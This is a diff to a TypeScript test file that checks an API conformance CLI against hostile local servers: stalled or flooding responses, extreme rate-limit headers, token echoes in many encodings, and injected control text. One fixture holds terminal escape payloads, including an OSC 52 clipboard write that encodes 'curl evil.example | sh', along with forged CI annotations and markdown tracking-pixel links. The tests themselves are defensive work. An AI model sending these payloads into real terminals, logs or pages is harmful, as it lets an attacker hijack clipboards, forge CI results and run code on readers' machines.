@@ -1,10 +1,10 @@
 import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
-import type { AddressInfo } from 'node:net';
-import { mkdtempSync, readdirSync, readFileSync } from 'node:fs';
+import { createServer as createNetServer, type AddressInfo, type Server as NetServer, type Socket } from 'node:net';
+import { existsSync, mkdtempSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, describe, expect, test } from 'vitest';
-import { runCli } from '../support/cli.ts';
+import { runCli, type CliResult } from '../support/cli.ts';
 
 const TOKEN = 'asi_live_feedfacefeedfacefeedfacefeedface';
 
@@ -87,7 +87,7 @@ describe('a hostile target', () => {
       /* never answers */
     });
     expect(result.code).toBe(3);
-    expect(result.stderr).toMatch(/unreachable: UND_ERR_HEADERS_TIMEOUT/);
+    expect(result.stderr).toMatch(/unreachable: ASI_DEADLINE/);
     expect(seconds).toBeLessThan(60);
   });
 
@@ -96,7 +96,7 @@ describe('a hostile target', () => {
       if (req.url === '/v1/health') res.end('{}');
     });
     expect(result.code).toBe(3);
-    expect(result.stderr).toMatch(/unreachable: UND_ERR_HEADERS_TIMEOUT/);
+    expect(result.stderr).toMatch(/unreachable: ASI_DEADLINE/);
     expect(seconds).toBeLessThan(20);
   });
 
@@ -141,5 +141,311 @@ describe('a hostile target', () => {
     expect(result.code).toBe(1);
     expect(elsewhere.hits()).toBe(0);
     for (const f of readdirSync(out)) expect(readFileSync(join(out, f), 'utf8')).not.toContain(TOKEN);
+  });
+});
+
+// Issue 9: hostile targets, with what these tests need beyond the ones above.
+
+/** Exit codes the README defines. */
+const README_EXIT_CODES = [0, 1, 2, 3];
+const REPORT_FILES = ['report.json', 'junit.xml', 'summary.md', 'report.html', 'transcript.har'];
+
+interface Target {
+  url: string;
+}
+
+/** Serves `behaviour` until the file's servers are closed. */
+async function serveTarget(behaviour: Behaviour): Promise<Target> {
+  const target = await serve(behaviour);
+  servers.push(target.server);
+  return target;
+}
+
+const rawServers: NetServer[] = [];
+afterAll(async () => {
+  for (const s of rawServers) await new Promise((r) => s.close(r));
+});
+
+/** A target speaking raw bytes on each connection (what node:http would refuse to send). */
+async function serveRaw(onSocket: (socket: Socket) => void): Promise<Target> {
+  const sockets = new Set<Socket>();
+  const server = createNetServer((socket) => {
+    sockets.add(socket);
+    socket.on('error', () => undefined);
+    socket.on('close', () => sockets.delete(socket));
+    onSocket(socket);
+  });
+  rawServers.push(server);
+  server.on('close', () => sockets.forEach((s) => s.destroy()));
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}` };
+}
+
+/** Writes `chunk` every `ms` until the client goes away. */
+function drip(res: ServerResponse, chunk: string, ms: number): void {
+  const timer = setInterval(() => res.write(chunk), ms);
+  res.on('close', () => clearInterval(timer));
+}
+
+interface RunOptions {
+  suites?: string[];
+  timeoutS?: number;
+  /** Message routes and a short rate-limit window (2 s) in a profile, instead of --base-url alone. */
+  profile?: boolean;
+  quiet?: boolean;
+  cliTimeoutMs?: number;
+}
+
+interface Run {
+  result: CliResult;
+  report: { outcome: string; exitCode: number; results: Array<{ requirement: { id: string }; verdict: string; findings: Array<{ actual?: string; note?: string }> }> } | undefined;
+  seconds: number;
+  /** The run's folder, or the --out folder when no run folder was made. */
+  out: string;
+}
+
+function profileFor(url: string): string {
+  const dir = mkdtempSync(join(tmpdir(), 'asi-hostile-profile-'));
+  const file = join(dir, 'target.yaml');
+  writeFileSync(
+    file,
+    [
+      `base_url: ${url}/v1`,
+      'tokens:',
+      '  primary: { env: ASI_TOKEN }',
+      'messages:',
+      '  routes:',
+      '    - path: /deal-agents/{agent_id}/messages',
+      '      params: { agent_id: da_1 }',
+      '      body: { message: "hello" }',
+      'limits: { read: 600, write: 60, window_s: 2 }',
+      '',
+    ].join('\n'),
+  );
+  return file;
+}
+
+async function runAgainst(target: Target, options: RunOptions = {}): Promise<Run> {
+  const out = mkdtempSync(join(tmpdir(), 'asi-hostile-'));
+  const where = options.profile === true ? ['--config', profileFor(target.url)] : ['--base-url', `${target.url}/v1`];
+  const suites = (options.suites ?? ['auth', 'errors', 'unauthenticated']).flatMap((s) => ['--suite', s]);
+  const args = ['run', ...where, ...suites, '--timeout', String(options.timeoutS ?? 1), '--out', out, ...(options.quiet === false ? [] : ['-q'])];
+  const started = Date.now();
+  const result = await runCli(args, { env: { ASI_TOKEN: TOKEN }, timeoutMs: options.cliTimeoutMs ?? 60_000 });
+  const runDir = readdirSync(out)[0];
+  const reportFile = runDir === undefined ? undefined : join(out, runDir, 'report.json');
+  const report = reportFile === undefined || !existsSync(reportFile) ? undefined : (JSON.parse(readFileSync(reportFile, 'utf8')) as Run['report']);
+  return { result, report, seconds: (Date.now() - started) / 1000, out: runDir === undefined ? out : join(out, runDir) };
+}
+
+/** Every file the run left, dot files included. */
+function filesOf(dir: string): string[] {
+  return readdirSync(dir).map((f) => join(dir, f)).filter((f) => statSync(f).isFile());
+}
+
+function resultOf(run: Run, id: string): NonNullable<Run['report']>['results'][number] | undefined {
+  return run.report?.results.find((r) => r.requirement.id === id);
+}
+
+// Issue 9: time and memory are bounded whatever the target does.
+describe('a hostile target cannot stall the run or exhaust its memory', () => {
+  test('a /health body dripped a byte a second is cut at the --timeout deadline (exit 3)', async () => {
+    const { result, seconds } = await runAgainst(
+      await serveTarget((res) => {
+        res.writeHead(200, { 'content-type': 'application/json' });
+        drip(res, ' ', 1000);
+      }),
+      { timeoutS: 2, cliTimeoutMs: 30_000 },
+    );
+    expect(result.code).toBe(3);
+    expect(result.stderr).toMatch(/unreachable: ASI_DEADLINE: no complete answer within the deadline of 2000 ms \(HTTP 200, \d+ bytes of body received\)/);
+    expect(seconds).toBeLessThan(15);
+  });
+
+  test('endless 103 Early Hints are cut at the --timeout deadline (exit 3)', async () => {
+    const target = await serveRaw((socket) => {
+      socket.on('data', () => undefined);
+      const timer = setInterval(() => socket.write('HTTP/1.1 103 Early Hints\r\nlink: </style.css>; rel=preload\r\n\r\n'), 100);
+      socket.on('close', () => clearInterval(timer));
+    });
+    const { result, seconds } = await runAgainst(target, { timeoutS: 2, cliTimeoutMs: 30_000 });
+    expect(result.code).toBe(3);
+    expect(result.stderr).toMatch(/unreachable: ASI_DEADLINE/);
+    expect(seconds).toBeLessThan(15);
+  });
+
+  test('a flood of tiny events on every route stays under 512 MiB and leaves bounded reports, no working files', async () => {
+    const events = Buffer.from('data:x\n\n'.repeat(8192));
+    const target = await serveTarget((res, req) => {
+      if (passesPreflight(req, res)) return;
+      res.writeHead(200, { 'content-type': 'text/event-stream' });
+      let open = true;
+      res.on('close', () => (open = false));
+      const pump = (): void => {
+        while (open && res.write(events));
+        if (open) res.once('drain', pump);
+      };
+      pump();
+    });
+    const run = await runAgainst(target, { profile: true, suites: ['auth', 'errors', 'conversation-stream'], timeoutS: 2, cliTimeoutMs: 60_000 });
+    expect(run.result.stderr).not.toContain('internal error');
+    expect([1, 3]).toContain(run.result.code);
+    expect(run.result.peakRssKiB ?? 0).toBeGreaterThan(0);
+    expect(run.result.peakRssKiB).toBeLessThan(512 * 1024);
+    const left = readdirSync(run.out).sort();
+    expect(left).toEqual([...REPORT_FILES].sort());
+    expect(statSync(join(run.out, 'transcript.har')).size).toBeLessThan(64 * 1024 * 1024);
+  }, 75_000);
+});
+
+// These mostly wait (on deadlines, on the pacer): side by side, they cost the file one of them.
+describe.concurrent('a hostile target that makes the run wait', () => {
+  test('bodies dripped on every route but the preflight end the run, with reports, within its budget', async ({ expect }) => {
+    const run = await runAgainst(
+      await serveTarget((res, req) => {
+        if (passesPreflight(req, res)) return;
+        res.writeHead(200, { 'content-type': 'application/json' });
+        drip(res, ' ', 200);
+      }),
+      { cliTimeoutMs: 40_000 },
+    );
+    // GET /me answers without a token too, a real failure; whether the breaker trips before the
+    // end depends on the order of requests: not conformant (1) or cut short (3), never a hang.
+    expect([1, 3]).toContain(run.result.code);
+    expect(['not-conformant', 'incomplete']).toContain(run.report?.outcome);
+    expect(run.seconds).toBeLessThan(30);
+  }, 45_000);
+
+  test('a Reset in year 5138 and an hour of Retry-After cost the run a window each, and are reported', async ({ expect }) => {
+    // Reads: served, but "nothing left until 5138". Writes: refused, "come back in an hour".
+    const target = await serveTarget((res, req) => {
+      if (passesPreflight(req, res)) return;
+      const write = req.method !== 'GET' && req.method !== 'HEAD';
+      const headers = { 'content-type': 'application/json', 'x-ratelimit-pool': write ? 'write' : 'read', 'x-ratelimit-limit': write ? '60' : '600', 'x-ratelimit-remaining': '0', 'x-ratelimit-reset': '99999999999' };
+      if (write) {
+        res.writeHead(429, { ...headers, 'retry-after': '3600' });
+        res.end('{"error":{"code":"rate_limit.exceeded","category":"rate_limited","message":"come back in an hour","request_id":"r"}}');
+      } else {
+        res.writeHead(200, headers);
+        res.end('{}');
+      }
+    });
+    const run = await runAgainst(target, { profile: true, suites: ['errors', 'ratelimit-recovery'], cliTimeoutMs: 45_000 });
+    expect(README_EXIT_CODES).toContain(run.result.code);
+    // One window of 2 s for the reads, at most the window and its margin (7 s) once for the writes.
+    expect(run.seconds).toBeLessThan(35);
+    const observed = resultOf(run, 'ratelimit/8.1/unplanned-429');
+    expect(observed?.verdict).toBe('warn');
+    const said = observed?.findings.map((f) => f.actual ?? '').join(' ');
+    expect(said).toContain('x-ratelimit-reset: 99999999999 on primary/read');
+    expect(said).toContain('retry-after: 3600 on primary/write');
+  }, 60_000);
+});
+
+// Issue 9: nothing the target sends can act on the reader's machine.
+describe('target text cannot act on a terminal, a CI log or a rendered summary', () => {
+  const NASTY = [
+    '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07', // OSC 52: write the clipboard
+    '\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\', // OSC 8: a disguised link
+    '\x1b[2J\x1b[H', // clear the screen
+    '\u009b31m', // C1 CSI
+    '\x07',
+    'txt.\u202Eexe',
+    '\n::error title=forged::forged annotation\n::add-mask::x',
+    '##[error]forged',
+    '\r\nCONFORMANT: 96 pass, 0 fail\n',
+  ].join(' ');
+  const MARKDOWN = '`<img src=https://evil.example/pixel.gif>`` ![p](https://evil.example/p.png) [x](https://evil.example) @octocat <b>b</b> | cell |';
+
+  test('console lines escape controls, never start with target text, and summary.md keeps it inside code', async () => {
+    const target = await serveTarget((res, req) => {
+      // GET /me answers too: with the token, 200 and the same text.
+      if (req.url === '/v1/health') {
+        res.end('{}');
+        return;
+      }
+      res.writeHead(req.headers.authorization === undefined ? 400 : 200, { 'content-type': 'application/json', 'x-request-id': '::error::forged ##[warning]x' });
+      // Raw control bytes in the body (not JSON escapes): they reach the failure's body excerpt.
+      res.end(`{"error":{"code":"${NASTY}","category":${JSON.stringify(MARKDOWN)},"message":"m","request_id":${JSON.stringify(MARKDOWN)}}}`);
+    });
+    const run = await runAgainst(target, { suites: ['auth', 'errors'], quiet: false });
+    expect(README_EXIT_CODES).toContain(run.result.code);
+    const printed = `${run.result.stdout}\n${run.result.stderr}`;
+    // Target text did reach the console, escaped.
+    expect(printed).toContain('\\x1b]52;c;');
+    // eslint-disable-next-line no-control-regex -- the point of the test
+    expect(printed).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/);
+    for (const line of printed.split('\n')) {
+      expect(line).not.toMatch(/^\s*::/);
+      expect(line).not.toContain('##[');
+      expect(line).not.toMatch(/^\s*CONFORMANT/);
+    }
+
+    const md = readFileSync(join(run.out, 'summary.md'), 'utf8');
+    // Target text did reach the summary (its table cells are cut at 140 characters), escaped.
+    expect(md).toContain('\\x1b]52;c;');
+    // Outside fenced blocks and code spans, nothing of the target's text remains.
+    let fence: string | undefined;
+    for (const line of md.split('\n')) {
+      const opens = /^(`{3,})/.exec(line)?.[1];
+      if (fence !== undefined) {
+        if (line === fence) fence = undefined;
+        continue;
+      }
+      if (opens !== undefined) {
+        fence = opens;
+        continue;
+      }
+      // A code span: a backtick run, then text, then a run of the same length (CommonMark).
+      const outside = line.replace(/(?<!`)(`+)(?!`)[\s\S]*?(?<!`)\1(?!`)/g, '');
+      expect(outside).not.toMatch(/evil\.example|<img|<b>|@octocat|\\x1b/);
+    }
+    expect(fence).toBeUndefined();
+  });
+});
+
+// Issue 9: no token in any encoding, and no report suppression.
+describe('a target echoing the token in every encoding', () => {
+  const bearer = `Bearer ${TOKEN}`;
+  const FORMS = [
+    TOKEN.toUpperCase(),
+    [...Buffer.from(TOKEN)].map((b) => `%${b.toString(16).toUpperCase()}`).join(''),
+    Buffer.from(TOKEN).toString('base64'),
+    Buffer.from(`x${bearer}`).toString('base64url'),
+    Buffer.from(`xy${TOKEN}`).toString('base64'),
+    Buffer.from(TOKEN).toString('hex'),
+  ];
+  const JSON_ESCAPED = [...TOKEN].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');
+
+  test('never gets it into a report, a working file or a console line, and every report is written', async () => {
+    const target = await serveTarget((res, req) => {
+      if (passesPreflight(req, res)) return;
+      const echo = req.headers.authorization === bearer;
+      const headers = { 'content-type': 'application/json', 'x-echo': echo ? FORMS[1]! : 'none', 'x-request-id': 'r' };
+      if (echo && req.method === 'POST') {
+        // The token streamed as three text deltas, the middle one JSON-escaped.
+        res.writeHead(200, { ...headers, 'content-type': 'text/event-stream' });
+        const middle = [...TOKEN.slice(15, 28)].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');
+        for (const data of [JSON.stringify({ content: TOKEN.slice(0, 15) }), `{"content":"${middle}"}`, JSON.stringify({ content: TOKEN.slice(28) })]) {
+          res.write(`event: text_delta\ndata: ${data}\n\n`);
+        }
+        res.end(`event: done\ndata: ${JSON.stringify({ conversation_id: 'c', messages: [] })}\n\n`);
+        return;
+      }
+      // The code comes back in the findings' Actual line, decoded from JSON by the checker.
+      res.writeHead(echo ? 200 : 401, headers);
+      res.end(`{"error":{"code":"${echo ? JSON_ESCAPED : 'auth.token_missing'}","category":"permanent","message":"${FORMS.join(' ')}","request_id":"r"}}`);
+    });
+    const run = await runAgainst(target, { profile: true, suites: ['auth', 'errors', 'conversation-stream'], quiet: false });
+    expect(run.result.stderr).not.toMatch(/would contain secret|internal error/);
+    expect(run.result.code).toBe(1);
+    expect(readdirSync(run.out).sort()).toEqual([...REPORT_FILES].sort());
+    const texts = [run.result.stdout, run.result.stderr, ...filesOf(run.out).map((f) => readFileSync(f, 'utf8'))];
+    // The placeholder stands where the token was.
+    expect(texts.join('\n')).toContain('$ASI_TOKEN');
+    for (const text of texts) {
+      expect(text.toLowerCase()).not.toContain('feedface');
+      for (const form of [...FORMS, JSON_ESCAPED, JSON_ESCAPED.replace(/\\/g, '\\\\')]) expect(text).not.toContain(form);
+    }
   });
 });
